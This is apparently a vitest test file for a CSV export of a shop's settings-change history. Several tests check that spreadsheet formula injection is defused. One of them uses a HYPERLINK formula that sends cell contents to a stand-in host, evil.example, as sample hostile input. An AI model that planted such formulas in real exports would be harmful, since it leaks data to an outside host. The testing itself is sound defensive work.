import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { StreamedChange } from '@/lib/database/change-stream';
import { changeCsvColumns, toChangeCsv } from '@/lib/http/change-export';
import type { Change } from '@/lib/settings/change';
import { createServerTranslator } from '@/lib/i18n/translator';

const t = await createServerTranslator('en');

const change: Change = {
  id: '6f9619ff-8b86-4d01-b42d-00cf4fc964ff',
  channelId: 1_024_801,
  source: 'app',
  status: 'partly',
  restoresId: null,
  sideEffects: null,
  late: null,
  author: { userId: 2, email: 'sam@shop.example', role: 'user' },
  before: { policyUrl: '' },
  requested: { policyUrl: 'https://shop.example/' },
  stored: { policyUrl: '' },
  names: { storefront: 'Harbor & Pine', groups: { '12': 'Wholesale' } },
  note: null,
  requestId: 'req-1',
  createdAt: Date.UTC(2026, 0, 5, 12),
};

const streamed = (different: Partial<Change> = {}): StreamedChange => ({
  entryId: 'entry-1',
  entryAt: change.createdAt,
  change: { ...change, ...different },
});

/** A reader of CSV, as RFC 4180 has it. */
function readCsv(text: string): string[][] {
  const cell = /("(?:[^"]|"")*"|[^,\r\n"]*)(,|\r\n|$)/gy;
  const rows: string[][] = [[]];
  for (const [whole, value = '', end] of text.matchAll(cell)) {
    if (whole === '') break;
    rows.at(-1)?.push(value.startsWith('"') ? value.slice(1, -1).replaceAll('""', '"') : value);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

function readRecords(text: string): Record<string, string>[] {
  const [, ...rows] = readCsv(text);
  return rows.map((row) => Object.fromEntries(changeCsvColumns.map((column, at) => [column, row[at] ?? ''])));
}

const first = { t, separator: 'comma', first: true } as const;

describe('the history as CSV', () => {
  it('begins with the mark of UTF-8 and the head, once', () => {
    const text = toChangeCsv([streamed()], first);
    expect(text.startsWith('\uFEFFtime (UTC),user,user_id,')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(toChangeCsv([streamed()], { ...first, first: false }).startsWith('2026-01-05 12:00:00,')).toBe(
      true,
    );
    expect(toChangeCsv([], first)).toBe(`\uFEFF${changeCsvColumns.join(',')}\r\n`);
  });

  it('has a row for each field, in words', () => {
    const rows = readRecords(
      toChangeCsv(
        [
          streamed({
            before: { trackingConsent: null, guestCustomerGroupId: 0, allowGlobalLogins: null },
            requested: { trackingConsent: true, guestCustomerGroupId: 12, allowGlobalLogins: false },
            stored: null,
          }),
          streamed(),
        ],
        first,
      ),
    );
    expect(rows.map(({ field, before, asked, stored }) => [field, before, asked, stored])).toEqual([
      ['privacy_settings.ask_shopper_for_tracking_consent', 'Use the global setting', 'On', ''],
      ['customer_group_settings.guest_customer_group_id', 'No group', 'Wholesale (ID 12)', ''],
      ['allow_global_logins', 'Not set (BigCommerce decides)', 'Not allowed', ''],
      ['privacy_settings.policy_url', 'None', 'https://shop.example/', 'None'],
    ]);
    expect(rows.at(-1)).toMatchObject({
      'time (UTC)': '2026-01-05 12:00:00',
      user: 'sam@shop.example',
      user_id: '2',
      role: 'user',
      storefront: 'Harbor & Pine',
      storefront_id: '1024801',
      status: 'partly',
      source: 'app',
      entry_id: 'entry-1',
      change_id: change.id,
      note: '',
      request_id: 'req-1',
    });
  });

  it('has texts for removed users, changes from outside, and groups without a name', () => {
    const csv = toChangeCsv(
      [
        streamed({ author: { userId: 123, email: null, role: 'user' }, names: {} }),
        streamed({ author: null, channelId: null, requested: { guestCustomerGroupId: 9 }, names: {} }),
      ],
      first,
    );
    const [gone, outside] = readRecords(csv);
    expect(gone).toMatchObject({ user: 'Removed user 123', storefront: 'Storefront 1024801' });
    expect(outside).toMatchObject({
      user: 'Outside this app',
      storefront: 'Global settings',
      asked: 'Group 9',
    });
  });

  it.each(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])(
    'is no formula where a text begins with %j',
    (start) => {
      const text = `${start}HYPERLINK("http://evil.example?"&A1,"x")`;
      const names = { storefront: text, groups: { '12': text } };
      const csv = toChangeCsv(
        [
          streamed({ note: text, names, author: { userId: 1, email: text, role: 'user' } }),
          streamed({
            before: { policyUrl: text },
            requested: { policyUrl: text },
            stored: { policyUrl: text },
          }),
          streamed({ requested: { guestCustomerGroupId: 12 }, names }),
        ],
        first,
      );
      const cells = readCsv(csv).flat();
      expect(cells.filter((value) => value === `'${text}`)).toHaveLength(7);
      expect(cells.filter((value) => value.startsWith(start))).toEqual([]);
    },
  );

  it('stands in columns with semicolons, too', () => {
    const [head, row] = toChangeCsv([streamed({ note: 'a;b' })], { ...first, separator: 'semicolon' }).split(
      '\r\n',
    );
    expect(head?.split(';')).toHaveLength(changeCsvColumns.length);
    expect(row).toContain(';"a;b";');
    expect(row?.startsWith('2026-01-05 12:00:00;sam@shop.example;2;')).toBe(true);
  });

  it.each([
    ['a\n=1+1', "a\n'=1+1"],
    ['a\r=1+1', "a\r'=1+1"],
    ['a\r\n\t@SUM(A1)', "a\r\n\t'@SUM(A1)"],
    ['a;=1+1', "a;'=1+1"],
    ['a,-1', "a,'-1"],
    ['a;"=1+1', 'a;"\'=1+1'],
    ['a; b = c', 'a; b = c'],
  ])('defuses %j within a cell', (note, safe) => {
    for (const separator of ['comma', 'semicolon'] as const) {
      const text = toChangeCsv([streamed({ note })], { ...first, separator });
      expect(text).toContain(safe.replaceAll('"', '""'));
      // However a spreadsheet splits the file.
      for (const cell of text.slice(1).split(/[;,\t\r\n]/)) expect(cell).not.toMatch(/^"*[=+@-]/);
    }
  });

  it('holds any text as it was, but for apostrophes before formulas', () => {
    const part = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('\n', '\r', ';', ',', '"', '=', '-', '@'),
    );
    fc.assert(
      fc.property(fc.array(part), (parts) => {
        const note = parts.join('').replaceAll("'", '');
        const text = toChangeCsv([streamed({ note })], first);
        const [row, ...others] = readRecords(text);
        expect(others).toEqual([]);
        expect(row?.note?.replaceAll("'", '')).toBe(note);
        expect(row?.request_id).toBe('req-1');
      }),
    );
  });
});

it('has one row for a changed role, whose values no spreadsheet runs', () => {
  const [header = [], row = []] = readCsv(
    toChangeCsv(
      [
        {
          appChange: {
            kind: 'role',
            id: 'role-1',
            author: { userId: 1, email: 'owner@store.example', role: 'owner' },
            person: { userId: 2, email: '=cmd@store.example' },
            before: 'viewer',
            after: 'none',
            requestId: 'req-1',
            createdAt: Date.UTC(2026, 0, 5, 12),
          },
        },
      ],
      { t, separator: 'comma', first: true },
    ),
  );
  const cells = Object.fromEntries(header.map((name, index) => [name.replace('\uFEFF', ''), row[index]]));
  expect(cells).toMatchObject({
    user: 'owner@store.example',
    setting: 'Role of =cmd@store.example',
    field: 'role_of_2',
    before: 'Viewer',
    stored: 'No access',
    source: 'role',
  });
});

it('has a row for each place of a finding that was called not relevant, and one for a setting of the app', () => {
  const common = {
    author: { userId: 1, email: 'owner@store.example', role: 'owner' as const },
    requestId: null,
    createdAt: Date.UTC(2026, 0, 5, 12),
  };
  const [header = [], ...rows] = readCsv(
    toChangeCsv(
      [
        {
          appChange: {
            kind: 'check',
            id: 'check-1',
            ...common,
            rule: 'sameGroup',
            channelIds: [null, 7],
            reason: '=one price',
          },
        },
        {
          appChange: { kind: 'check', id: 'check-2', ...common, rule: 'gone', channelIds: [7], reason: null },
        },
        { appChange: { kind: 'app_settings', id: 'app-1', ...common, reasonRequired: true } },
      ],
      { t, separator: 'comma', first: true },
    ),
  );
  const names = header.map((name) => name.replace('\uFEFF', ''));
  const cells = rows.map((row) => Object.fromEntries(names.map((name, index) => [name, row[index]])));
  expect(cells).toMatchObject([
    {
      setting: 'Guests and new customers are in the same group',
      field: 'check_sameGroup',
      storefront_id: '',
      before: 'Shown again',
      stored: 'Called not relevant',
      note: "'=one price",
      source: 'check',
    },
    { storefront_id: '7', entry_id: 'check-1' },
    { setting: 'gone', storefront_id: '7', stored: 'Shown again', note: '' },
    { field: 'reason_required', before: 'Off', stored: 'On', storefront_id: '', source: 'app_settings' },
  ]);
});
